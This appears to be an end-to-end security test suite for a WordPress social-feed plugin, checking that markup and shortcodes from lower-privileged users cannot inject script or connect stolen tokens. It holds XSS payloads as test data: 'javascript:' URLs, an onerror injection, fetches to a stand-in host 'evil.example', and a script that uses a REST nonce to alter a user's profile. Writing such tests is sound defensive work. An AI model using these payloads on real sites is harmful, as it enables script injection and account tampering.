import {
	namesInSource,
	pendingPostOf,
	postOf,
	publish,
	saveAs,
} from '../lib/authors.js';
import { Editor } from '../lib/editor.js';
import { everyFeature, switchOn } from '../lib/site.js';
import { expect, NONE, test } from './visits.js';

const EVIL = 'https://evil.example/x.js';
const CODE = 'javascript:window.canary=1';
const FEED = '[frontispiece_social_feed num="1"]';
const CONFIG = JSON.stringify( {
	island: 'forms',
	scripts: [ { handle: 'x', src: EVIL, before: 'window.canary=1' } ],
	props: { ajax: EVIL },
} ).replaceAll( '"', '&quot;' );

const attributesWith = ( value: string ) =>
	namesInSource()
		.attributes.filter( ( name ) => name !== 'data-when' )
		.map( ( name ) => `${ name }="${ value }"` )
		.join( ' ' );

const fake = `<div data-island="forms" data-when="load"><pre class="frontispiece-config">${ CONFIG }</pre><p id="frontispiece-react-js-before">window.canary=1</p></div>`;

/** All of our markup that kses allows, with this value in every attribute, in columns so that scrolling takes few steps. */
function everything( value: string ): string {
	const attributes = attributesWith( value );
	const { classes } = namesInSource();
	const all = classes.join( ' ' );
	const one = ( name: string ) =>
		`<div class="${ name }" data-cff-src="${ value }" data-src="${ value }" data-href="${ value }" data-script="${ value }"><a class="${ name }" href="#x" data-href="${ value }" data-cff-video-link="${ value }">x</a></div>`;
	return [
		fake,
		`<section class="${ all }" ${ attributes } data-when="load">`,
		`<a class="${ all }" href="#x" ${ attributes }>x<img src="/x.png" alt="" ${ attributes }></a>`,
		`<button class="${ all }" ${ attributes }>x</button></section>`,
		`<div style="column-count:24">${ classes.map( one ).join( '' ) }</div>`,
	].join( '' );
}

// Starting the site of these tests costs more than any of them, so they share a worker, whose site it is.
test.describe.configure( { mode: 'default' } );

test( 'The attribute and class names to attack come from the source code', () => {
	const { attributes, classes } = namesInSource();
	expect( attributes ).toEqual(
		expect.arrayContaining( [ 'data-cff-src', 'data-island', 'data-href' ] )
	);
	expect( classes ).toEqual(
		expect.arrayContaining( [ 'frontispiece-config', 'cff-likebox' ] )
	);
} );

for ( const value of [ CODE, EVIL, CONFIG ] ) {
	const named = value.slice( 0, 12 );

	test( `SEC-3, SEC-4: markup of ours that a contributor or an author writes does nothing (${ named })`, async ( {
		page,
		admin,
		site,
		owner,
		visit,
	} ) => {
		await switchOn( page, everyFeature() );
		await switchOn( admin, everyFeature() );
		const content = `${ everything( value ) }${ FEED }`;
		const { id, preview } = await pendingPostOf(
			site,
			owner,
			'contributor',
			content
		);
		expect( await visit( admin, preview, { id, harmless: FEED } ) ).toEqual(
			NONE
		);

		const { link, saved } = await publish( owner, id );
		expect( saved ).toContain( 'frontispiece-config' );
		expect( await visit( page, link, { id, harmless: FEED } ) ).toEqual(
			NONE
		);
		expect( await visit( admin, link, { id, harmless: FEED } ) ).toEqual(
			NONE
		);

		// Neither role may write unfiltered HTML, so what is stored for an author does no more.
		const author = await postOf( site, owner, 'author', content );
		expect( author.saved ).toBe( saved );
	} );
}

test( 'Every detector sees what an administrator may write', async ( {
	admin,
	owner,
	visit,
} ) => {
	const code = `
		window.canary = 1;
		setTimeout( () => alert( 'canary' ) );
		fetch( '${ EVIL }', { mode: 'no-cors' } ).then( String, String );
		( async () => {
			const nonce = await ( await fetch( '/wp-admin/admin-ajax.php?action=rest-nonce' ) ).text();
			const saved = await fetch( '/wp-json/wp/v2/users/me', {
				method: 'POST',
				headers: { 'X-WP-Nonce': nonce, 'Content-Type': 'application/json' },
				body: JSON.stringify( { description: 'Canary ' + Math.random() } ),
			} );
			await saved.text();
		} )();`;
	const { id, link } = await owner.post(
		`<!-- wp:html --><p><a href="${ CODE }">x</a></p><iframe src="javascript:0"></iframe><script>${ code.replaceAll( /\s+/g, ' ' ) }</script><!-- /wp:html -->${ FEED }`
	);
	expect( await visit( admin, link, { id, harmless: FEED } ) ).toEqual( {
		ran: true,
		dialogs: [ 'canary' ],
		requests: [ EVIL ],
		frames: 1,
		links: 1,
		changed: [ expect.stringMatching( /^meta of user \d+ description$/ ) ],
	} );
} );

test( 'SEC-4: markup that an author leaves unclosed does not affect a feed', async ( {
	page,
	site,
	owner,
	visit,
} ) => {
	const feed = '[frontispiece_social_feed num="2" likebox="1"]';
	const open = `<b class="cff-likebox frontispiece-frame frontispiece-form__widget" data-cff-src="${ CODE }" data-src="${ CODE }" data-script="${ EVIL }"><a class="frontispiece-feed cff-lightbox-link" href="#x" data-cff-video-link="${ CODE }" data-href="${ CODE }">x`;
	const { id, link } = await postOf( site, owner, 'author', open + feed );
	const found = await visit( page, link, { id, harmless: feed } );
	// Of the clicks, some give consent for the like box, and others withdraw it.
	const isLikeBox = ( url: string ) =>
		url.startsWith( 'https://www.facebook.com/plugins/page.php?' );
	expect( {
		...found,
		requests: found.requests.filter( ( url ) => ! isLikeBox( url ) ),
	} ).toEqual( NONE );
} );

test( 'SEC-4: stories that an author writes around a photo feed lead nowhere', async ( {
	page,
	site,
	owner,
	visit,
} ) => {
	const feed = '[frontispiece_photo_feed num="2"]';
	const stories = JSON.stringify( [
		{ id: '1', media_type: 'IMAGE', media_url: '/x.png', link: CODE },
	] ).replaceAll( '"', '&quot;' );
	const open = `<b class="sbi_story_open" data-story-data="${ stories }" data-story-avatar="${ CODE }"><a href="#x">x`;
	const { id, link } = await postOf( site, owner, 'author', open + feed );
	expect( await visit( page, link, { id, harmless: feed } ) ).toEqual( NONE );
} );

test( 'SEC-1, SEC-2: a token in a shortcode creates neither markup nor a source', async ( {
	page,
	admin,
	site,
	owner,
	visit,
} ) => {
	const handles = async () =>
		JSON.stringify( await owner.rest( '/frontispiece/v1/sources' ) );
	const { id, preview } = await pendingPostOf(
		site,
		owner,
		'contributor',
		'[frontispiece_social_feed token="a" x="\\x5d\\x3cimg src=x onerror=window.canary=1\\x3e"]&#91;frontispiece_social_feed page="100200300400599" token="EAABstolen"&#93;'
	);
	expect( await visit( admin, preview, { id, harmless: FEED } ) ).toEqual(
		NONE
	);

	const { link, saved } = await publish( owner, id );
	expect( saved ).not.toContain( 'EAABstolen' );
	await owner.send( `/wp/v2/posts/${ id }`, { content: saved } );
	expect( await handles() ).not.toContain( '100200300400599' );
	expect( await visit( page, link, { id, harmless: FEED } ) ).toEqual( NONE );
} );

test( 'SEC-26: an encoded token that an editor adds to a post of an administrator connects nothing when the block editor decodes it', async ( {
	admin,
	site,
	owner,
} ) => {
	const token = 'EAABstolenByAnEditor';
	const account = '100200300400511';
	const { id } = await owner.send< { id: number } >( '/wp/v2/posts', {
		title: 'Of the administrator',
		content: 'x',
	} );
	const encoded = [ ...token ].map(
		( one ) => `\\x${ one.charCodeAt( 0 ).toString( 16 ) }`
	);
	await saveAs( site, owner, 'editor', `posts/${ id }`, () => ( {
		content: `<!-- wp:paragraph -->\n<p>&#91;frontispiece_social_feed page="${ account }" token="${ encoded.join( '' ) }"]</p>\n<!-- /wp:paragraph -->`,
	} ) );

	const editor = await Editor.open(
		admin,
		`/wp-admin/post.php?post=${ id }&action=edit`
	);
	await editor.place( 'core/paragraph', { content: 'Something else' } );
	await editor.publish( 'Of the administrator' );

	const { content } = await owner.rest< { content: { raw: string } } >(
		`/wp/v2/posts/${ id }?context=edit`
	);
	expect( content.raw ).toContain( 'Something else' );
	expect( content.raw ).toContain( '[frontispiece_social_feed' );
	expect( content.raw ).not.toContain( token );
	expect(
		JSON.stringify( await owner.rest( '/frontispiece/v1/sources' ) )
	).not.toContain( account );
} );
